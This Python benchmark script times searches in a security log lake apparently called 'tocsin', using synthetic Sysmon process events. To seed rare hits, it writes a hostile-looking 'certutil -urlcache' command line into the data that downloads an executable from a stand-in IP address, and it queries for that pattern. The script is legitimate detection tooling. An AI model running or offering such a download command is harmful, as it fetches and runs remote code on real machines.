"""Search over millions of stored events: the budgets of ARCHITECTURE.md section 6.

    python benchmarks/bench_search.py [--events 10000000] [--days 30] [--lake PATH]

Builds (once, then reuses with --lake) a lake of synthetic Sysmon-like process events spread
over ``--days`` ingest days, then times with `LakeReader` (what `tocsin search` calls):
  1. the newest 100 hits of ``CommandLine:*certutil*``   (budget 1 s)
  2. the full count of ``CommandLine:*certutil*``        (budget 2 s)
  3. a field equality in a 1-day range                   (budget 200 ms)
  4. a free-text term over all time, newest 100
Each query runs --repeat times after one warm-up; the median is reported.
"""

from __future__ import annotations

import argparse
import statistics
import sys
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc

HOSTS = np.array([f"WS-{i:03d}" for i in range(200)] + ["DC01", "DC02", "web01", "bastion"])
USERS = np.array(
    [
        "CORP\\j.doe",
        "CORP\\a.smith",
        "CORP\\svc_backup",
        "NT AUTHORITY\\SYSTEM",
        "CORP\\m.lee",
        "CORP\\k.ng",
    ]
)
IMAGES = np.array(
    [
        r"C:\Windows\System32\svchost.exe",
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r"C:\Windows\explorer.exe",
        r"C:\Windows\System32\cmd.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"C:\Windows\System32\conhost.exe",
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
    ]
)


def build_lake(lake: Path, events: int, days: int, seed: int = 3) -> None:
    """Write ``events`` synthetic events over ``days`` ingest days (one file per day)."""
    from tocsin.lake.writer import LakeWriter

    rng = np.random.default_rng(seed)
    writer = LakeWriter(lake)
    per_day = events // days
    end = datetime(2026, 11, 28, tzinfo=UTC)
    for day_index in range(days):
        day_start = end - timedelta(days=days - day_index)
        n = per_day
        micros = np.sort(rng.integers(0, 86_400_000_000, n))
        stamps = pa.array(micros + int(day_start.timestamp() * 1e6), pa.int64()).cast(
            pa.timestamp("us", tz="UTC")
        )
        images = IMAGES[rng.integers(0, len(IMAGES), n)]
        ids = rng.integers(0, 1_000_000, n)
        commands = np.char.add(np.char.add(np.char.add('"', images), '" --id='), ids.astype(str))
        rare = rng.random(n) < 0.0005  # 1 in 2,000 events is a certutil download
        commands = np.where(
            rare,
            np.char.add(
                r"certutil.exe -urlcache -split -f http://198.51.100.23/a.exe ", ids.astype(str)
            ),
            commands,
        )
        hosts = HOSTS[rng.integers(0, len(HOSTS), n)]
        users = USERS[rng.integers(0, len(USERS), n)]
        cmd_arr = pa.array(commands.tolist(), pa.string())
        host_arr = pa.array(hosts.tolist(), pa.string())
        original = pc.binary_join_element_wise(
            '{"EventID":1,"Computer":"', host_arr, '","CommandLine":"', cmd_arr, '"}', ""
        )
        table = pa.table(
            {
                "event.id": pc.binary_join_element_wise(
                    f"bench{day_index}-", pa.array(np.arange(n)).cast(pa.string()), ""
                ),
                "@timestamp": stamps,
                "event.ingested": stamps,
                "event.dataset": pa.repeat(pa.scalar("windows.sysmon"), n),
                "event.kind": pa.repeat(pa.scalar("event"), n),
                "event.category": pa.array([["process"]] * n, pa.list_(pa.string())),
                "EventID": pa.array(np.ones(n, dtype=np.int64)),
                "Channel": pa.repeat(pa.scalar("Microsoft-Windows-Sysmon/Operational"), n),
                "Computer": host_arr,
                "host.name": host_arr,
                "Image": pa.array(images.tolist(), pa.string()),
                "CommandLine": cmd_arr,
                "User": pa.array(users.tolist(), pa.string()),
                "ProcessId": pa.array(rng.integers(4, 65000, n)),
                "event.original": original,
            }
        )
        # big files, as compaction leaves them
        for start in range(0, n, 2_000_000):
            writer.write_table(
                "windows.sysmon",
                (day_start + timedelta(hours=1)).date(),
                table.slice(start, 2_000_000),
            )
        print(f"  day {day_index + 1}/{days}: {n:,} events", file=sys.stderr)


def timed(label: str, func, repeat: int, budget: float | None) -> None:
    func()  # warm-up: the OS file cache, schema cache
    times = []
    result = None
    for _ in range(repeat):
        started = time.perf_counter()
        result = func()
        times.append(time.perf_counter() - started)
    median = statistics.median(times)
    verdict = "" if budget is None else ("  OK" if median <= budget else "  OVER BUDGET")
    shown = result if isinstance(result, int) else f"{len(result.events)} hits"
    print(f"{label:<58} median {median * 1000:8.1f} ms  ({shown}){verdict}")


def main() -> None:
    """Build or reuse the lake, then time the queries."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--events", type=int, default=10_000_000)
    parser.add_argument("--days", type=int, default=30)
    parser.add_argument("--lake", type=Path, default=Path("benchmarks/out/search-lake"))
    parser.add_argument("--repeat", type=int, default=5)
    args = parser.parse_args()

    from tocsin.lake.layout import list_files
    from tocsin.lake.reader import LakeReader

    existing = sum(f.rows for f in list_files(args.lake))
    if existing != args.events - args.events % args.days:
        if existing:
            import shutil

            shutil.rmtree(args.lake)
        started = time.perf_counter()
        print(f"building a lake of {args.events:,} events in {args.lake}", file=sys.stderr)
        build_lake(args.lake, args.events, args.days)
        print(f"built in {time.perf_counter() - started:.0f} s", file=sys.stderr)
    files = list_files(args.lake)
    size = sum(f.path.stat().st_size for f in files)
    print(f"lake: {sum(f.rows for f in files):,} events, {len(files)} files, {size / 1e9:.2f} GB")
    reader = LakeReader(args.lake)
    newest = max(f.max_time for f in files)
    day = (newest - timedelta(days=3)).date()
    since = datetime.combine(day, datetime.min.time(), UTC)
    until = since + timedelta(days=1)
    timed(
        "newest 100: CommandLine:*certutil*",
        lambda: reader.search("CommandLine:*certutil*", limit=100),
        args.repeat,
        1.0,
    )
    timed(
        "count: CommandLine:*certutil*",
        lambda: reader.count("CommandLine:*certutil*"),
        args.repeat,
        2.0,
    )
    timed(
        "newest 100: Computer:WS-042 in a 1-day range",
        lambda: reader.search("Computer:WS-042", since=since, until=until, limit=100),
        args.repeat,
        0.2,
    )
    timed(
        'newest 100: EventID:1 AND User:"CORP\\svc_backup" (1 day)',
        lambda: reader.search(
            'EventID:1 AND User:"CORP\\svc_backup"', since=since, until=until, limit=100
        ),
        args.repeat,
        0.3,
    )
    timed(
        "newest 100: free text urlcache (all time)",
        lambda: reader.search("urlcache", limit=100),
        args.repeat,
        1.0,
    )


if __name__ == "__main__":
    main()
